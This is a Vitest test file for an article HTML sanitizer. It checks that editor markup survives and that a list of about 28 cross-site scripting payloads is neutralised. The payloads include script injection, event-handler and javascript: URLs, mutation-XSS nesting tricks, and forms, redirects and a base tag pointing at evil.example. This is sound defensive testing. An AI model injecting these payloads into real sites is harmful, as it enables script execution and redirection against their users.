import { describe, expect, test } from 'vitest'
import { sanitizeArticleHtml } from '@/lib/articles/sanitize'

describe('keeps what the editor produces', () => {
  test.each([
    '<p>Text</p>',
    '<h2>Two</h2><h3>Three</h3><h4>Four</h4>',
    '<p><strong>a</strong><em>b</em><u>c</u><s>d</s><code>e</code></p>',
    '<p>10<sup>6</sup> Ω, CO<sub>2</sub></p>',
    '<p>One<br />two</p>',
    '<ul><li><p>a</p></li></ul>',
    '<ol start="3"><li>c</li></ol>',
    '<blockquote><p>Said</p></blockquote>',
    '<pre><code>12.6 V\n 0.2 V</code></pre>',
    '<hr />',
    '<figure><figcaption>Drawing</figcaption></figure>',
    '<table><thead><tr><th scope="col">Pin</th></tr></thead><tbody><tr><td colspan="2">31</td></tr></tbody></table>',
    '<p><a href="/courses/adas">Own</a></p>',
    '<p><a href="mailto:a@example.com">Email</a><a href="tel:+155501">Call</a><a href="#top">Up</a></p>',
    '<p>5 &lt; 6 &amp; 7</p>',
  ])('%s', (html) => {
    expect(sanitizeArticleHtml(html)).toBe(html)
  })

  test('a link to another site gets noopener', () => {
    expect(sanitizeArticleHtml('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" rel="noopener">x</a>',
    )
  })

  test('an image keeps its alternative text and size, and loads lazily', () => {
    const html = sanitizeArticleHtml(
      '<img src="https://example.com/a.png" alt="Scope" width="10" height="20">',
    )
    for (const kept of [
      'src="https://example.com/a.png"',
      'alt="Scope"',
      'width="10"',
      'loading="lazy"',
    ]) {
      expect(html).toContain(kept)
    }
  })

  test('an h1 becomes an h2, because the page has its own h1', () => {
    expect(sanitizeArticleHtml('<h1>Big</h1>')).toBe('<h2>Big</h2>')
  })
})

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="//evil.example/pixel">',
  '<img """><script>alert(1)</script>">',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1) style="position:fixed;inset:0">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=a><button>x</button></form>',
  '<style>body{display:none}</style><link rel=stylesheet href=evil.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>',
  '<textarea><script>alert(1)</script></textarea><xmp><img src=x onerror=alert(1)></xmp>',
]

describe('removes active content', () => {
  test.each(attacks)('%s', (html) => {
    const tags = sanitizeArticleHtml(html).match(/<[^>]*>/g) ?? []
    for (const tag of tags) {
      expect(tag).toMatch(/^<\/?(p|h2|a|img|table|tbody|tr|td)\b/)
      expect(tag).not.toMatch(/\s(on\w+|style|srcdoc)\s*=/i)
      expect(tag).not.toMatch(/(java|vb)script:|data:|file:|="\/\//i)
    }
  })

  test('is idempotent', () => {
    const once = sanitizeArticleHtml(attacks.join(''))
    expect(sanitizeArticleHtml(once)).toBe(once)
  })
})
